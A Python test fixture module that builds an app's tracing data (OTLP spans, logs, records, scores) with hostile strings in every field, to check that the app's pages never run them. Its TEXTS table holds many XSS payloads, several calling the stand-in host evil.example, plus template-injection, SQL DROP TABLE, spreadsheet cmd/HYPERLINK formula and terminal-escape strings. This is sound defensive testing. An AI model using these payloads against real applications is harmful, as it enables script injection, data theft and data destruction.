"""Texts that try to become part of the page that shows them, and bodies that put one into every field of a format.

Each tries to set `window.__ran` or to ask `evil.example` for something. None holds what the app itself writes.
"""

import json
import time
from collections.abc import Iterator
from typing import Any

from tests.otlp import export, export_logs, log, span
from traces.conventions.rules import CONVENTIONS
from traces.records import SpanRecord
from traces.wire.plain_record import FIELDS

_RUN = "window.__ran=1"
_EVIL = "//evil.example/x"

TEXTS = {
    # Elements and their handlers.
    "script": f"<script>{_RUN}</script>",
    "script, cased and broken": f"<ScRiPt/x>{_RUN}</sCrIpT ><script src={_EVIL}.js></script>",
    "script that ends its own": f"</script><script>{_RUN}</script>",
    "image": f'<img src=x onerror="{_RUN}"><img src=https:{_EVIL}.png>',
    "vector image": f'<svg onload="{_RUN}"><script>{_RUN}</script><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "frame": f'<iframe srcdoc="<script>top.{_RUN}</script>"></iframe><iframe src="javascript:{_RUN}">',
    "media": f'<video><source onerror="{_RUN}"></video><audio src=https:{_EVIL} autoplay onloadstart="{_RUN}">',
    "details": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "focus": f'<input autofocus onfocus="{_RUN}"><div tabindex=0 onfocus="{_RUN}" autofocus>',
    "form": f'<form action=https:{_EVIL}><button formaction="javascript:{_RUN}" autofocus>Log in again</button></form>',
    "head": f'<base href="https:{_EVIL}"><meta http-equiv=refresh content="0;url=https:{_EVIL}"><link rel=stylesheet href=https:{_EVIL}.css>',
    "plugin": f'<object data="javascript:{_RUN}"></object><embed src=https:{_EVIL}.swf>',
    "template element": f"<template shadowrootmode=open><script>{_RUN}</script></template><noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    "htmx": f'<div hx-get="https:{_EVIL}" hx-trigger="load" hx-on::load="{_RUN}" data-hx-get="{_EVIL}"></div>',
    "our own hooks": '<button data-key="j" data-opens="keys" data-copy="owned">x</button><a data-row href="https:' + _EVIL + '">',
    # Out of attributes, comments, and the places of scripts.
    "out of a double quote": f'"><img src=x onerror="{_RUN}"><a title="',
    "out of a single quote": f"'><img src=x onerror='{_RUN}'><a title='",
    "into a quote": f"\" autofocus onfocus=\"{_RUN}\" x=\"' onmouseover='{_RUN}",
    "backticks": f"`${{{_RUN}}}` onerror=`{_RUN}`",
    "comment": f"--><script>{_RUN}</script><!-- <!--><img src=x onerror={_RUN}> ]]><![CDATA[<script>{_RUN}</script>]]>",
    "out of the text of a field": f"</textarea></title></style></pre></details><script>{_RUN}</script>",
    "out of a script": f"\\';{_RUN}//\\\";{_RUN}//</script><!--\u2028{_RUN}\u2029",
    "JSON": '{"__proto__": {"onerror": "' + _RUN + '"}, "constructor": {"prototype": {"src": "https:' + _EVIL + '"}}}',
    # Addresses.
    "script address": f"javascript:{_RUN}//%0a{_RUN}",
    "script address, hidden": f"\x01 java\tscript\n:{_RUN} JaVaScRiPt&colon;{_RUN} vbscript:{_RUN}",
    "data address": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg== data:text/html,<script>{_RUN}</script>",
    "data image": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    "address of another host": f"https:{_EVIL}?a=1&b=2#c {_EVIL} \\\\evil.example\\x /\\evil.example",
    "way up": "../../../login?next=https:" + _EVIL + " /%2e%2e/%2f%2fevil.example ;a=b?c=d#e%00",
    # Languages that something on the way may speak.
    "Markdown": f"[click](javascript:{_RUN}) ![x](https:{_EVIL}.png) <https:{_EVIL}> # head\n```html\n<script>{_RUN}</script>\n```",
    "Django's templates": "{{ 7|add:7 }}{% now 'Y' %}{% load static %}{% include 'base.html' %}{# gone #}{{ request.user.password }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('" + _RUN + "')()}} %(message)s {0.__class__} [[${7*7}]]",
    "style": f"<style>@import 'https:{_EVIL}.css'; body{{background:url(https:{_EVIL}.png)}}</style><p style=\"background:url({_EVIL}.gif)\">",
    "style value": f"red;background:url(https:{_EVIL}.png);x:expression({_RUN});behavior:url({_EVIL})",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62; &amp;lt; %3Cscript%3E \\u003cscript\\u003e",
    # Letters that do something.
    "wide and look-alike": f"＜script＞{_RUN}＜/script＞ ‹img src=x onerror={_RUN}› ʺ onfocus=ʺ <ſcript>{_RUN}</ſcript>",
    "right to left": "\u202e>tpircs/<1=nar__.wodniw>tpircs<\u202c \u2066\u2067\u2068\u2069 \u061c invoice\u202efdp.exe",
    "unseen": "a\u200bb\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\U000e0001\U000e0041\u180e" + "\u0301" * 300,
    "controls": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;https:" + _EVIL + "\x07link\x1b]8;;\x07 \x08\x7f\x9b31m \r\nover",
    "odd ends": "\ufffe\uffff \ud7ff\ue000 \U0010ffff 💩 \x0b\x0c\x1c\x85\u2028\u2029 end",
    "numbers": "1e309 -0 NaN Infinity 0x1f 9999999999999999999999 1_000 ٣ Ⅷ",
    "words of databases": "'; DROP TABLE traces_span; -- \" OR 1=1 /* \\x00 %_ {1,2} ARRAY[1] $$ $1 ::regclass",
    "words of spreadsheets": "=cmd|' /C calc'!A0 +1+1 -1 @SUM(1) \t=1 \r=HYPERLINK(\"https:" + _EVIL + '")',
}  # fmt: skip
KINDS = ("llm", "retrieval", "tool")
ONE_LONG_LINE = f"<script>{_RUN}</script>" + "<img src=x onerror=window.__ran=1> " * 300_000  # over 10 MB


def messages(text: str) -> list[dict[str, Any]]:
    """Messages with the text in each of their places."""
    parts = [
        {"type": "text", "content": text, "text": text},
        {"type": "image_url", "image_url": {"url": text}},
        {"type": "uri", "uri": text, "mime_type": text, "modality": text},
        {"type": text, text: text},
    ]
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": json.dumps({text: text})}}
    return [
        {"role": "system", "content": text},
        {"role": "user", "content": parts, "name": text},
        {"role": text, "content": text, "reasoning": text},
        {"role": "assistant", "content": text, "tool_calls": [call], "finish_reason": text},
        {"role": "tool", "tool_call_id": text, "name": text, "content": text},
    ]


def attribute_names() -> Iterator[str]:
    """The name of every attribute that a convention reads, but for those that say a kind."""
    for table in CONVENTIONS:
        for names in [*table.fields.values(), *table.parameters.values()]:
            yield from (one if isinstance(one, str) else one[0] for one in names)
        for contents in table.contents.values():
            yield from (one.name for one in contents)


def attributes(text: str, kind: str) -> dict[str, Any]:
    """One attribute for each name that is read, half of the contents as messages; and one that nobody knows."""
    found: dict[str, Any] = {}
    for number, name in enumerate(dict.fromkeys(attribute_names())):
        plain = name.replace("*", "app")
        if plain.endswith("."):
            found |= {f"{plain}0.role": text, f"{plain}0.message.role": text, f"{plain}0.content": text}
            found |= {f"{plain}0.message.content": text, f"{plain}0.document.content": text, f"{plain}0.name": text}
        else:
            found[plain] = json.dumps(messages(text)) if "messages" in plain and number % 2 else text
    return {**found, "llmobs.kind": kind, f"app.{text}": text, "app.nested": [text, {text: [text]}]}


def otlp_span(trace_id: bytes, number: int, text: str) -> Any:
    """A span with the text in everything that a span holds."""
    one = span(**{name.replace("__", "_"): value for name, value in attributes(text, KINDS[number % 3]).items()})
    one.trace_id, one.span_id = trace_id, (number + 1).to_bytes(8, "big")
    one.name = one.trace_state = one.status.message = text
    one.status.code = 1 + number % 2
    event = one.events.add(name=text, time_unix_nano=time.time_ns())
    event.attributes.extend(one.attributes[:3])
    one.links.add(trace_id=trace_id, span_id=one.span_id, trace_state=text)
    return one


def otlp(trace_id: bytes) -> Any:
    """A request that holds every text, each in the resource, the scope and the spans of its own."""
    request = export()
    del request.resource_spans[:]
    for number, text in enumerate(TEXTS.values()):
        of_resource = export(otlp_span(trace_id, number, text), **{"service.name": text, "app.x": text}).resource_spans[
            0
        ]
        of_resource.scope_spans[0].scope.name = of_resource.scope_spans[0].scope.version = text
        request.resource_spans.append(of_resource)
    return request


def otlp_logs(trace_id: bytes) -> Any:
    """Log records whose contents hold every text, each of a span of its own."""
    records = []
    for number, text in enumerate(TEXTS.values()):
        bodies = [
            ("gen_ai.user.message", {"content": text}),
            ("gen_ai.choice", {"message": messages(text)[3]}),
            (text, text),
        ]
        for event, body in bodies:
            record = log(event, body)
            record.attributes.extend(log("", None, **{"gen_ai.system": text, "app.x": text}).attributes)
            record.trace_id, record.span_id = trace_id, (number + 1).to_bytes(8, "big")
            records.append(record)
    return export_logs(*records)


def plain(trace_id: str | None, span_id: str | None, text: str, kind: str) -> dict[str, Any]:
    """Our own record with the text in every field that takes one."""
    texts = {name for name, of in SpanRecord.__annotations__.items() if "str" in str(of)} & FIELDS.keys()
    record: dict[str, Any] = dict.fromkeys(texts - {"kind", "status", "failure", "fallback"}, text)
    return record | {
        "trace_id": trace_id or text, "span_id": span_id or text, "parent_id": text, "name": text, "kind": kind,
        "status": "error", "failure": text, "fallback": "human", "tags": [text], "input": messages(text), "cost_usd": "0.01",
        "output": [messages(text)[3]], "parsed_output": {text: text}, "parameters": {text: text, "temperature": text},
        "tools": [{"name": text, "description": text, "parameters": {text: text}}, text], "input_tokens": 7,
        "documents": [{"id": text, "title": text, "text": text, "score": 0.5}, text], "duration_ms": 5,
        "attributes": {text: text, "nested": {text: [text]}},
    }  # fmt: skip


def scores(trace_id: str | None, span_id: str | None, text: str) -> list[dict[str, Any]]:
    """Scores of a trace, a step, a session and a request, with the text in every field."""
    said = {"name": text, "comment": text, "source": "user", "metadata": {text: text, "member": text}}
    targets = [{"trace_id": trace_id or text}, {"span_id": span_id or text}, {"session_id": text}, {"request_id": text}]
    kinds = [
        {"value": text, "data_type": "text"},
        {"value": text, "data_type": "categorical"},
        {"value": 0.5},
        {"value": True},
    ]
    return [{**said, **target, **kind} for target, kind in zip(targets, kinds, strict=True)]


def refused(text: str) -> list[dict[str, Any]]:
    """Records that are refused with a reason that repeats what they hold."""
    return [
        {"trace_id": [text], "name": text},
        {text: text, "input_tokens": text},
        {"cost_usd": text, "started_at": text},
    ]
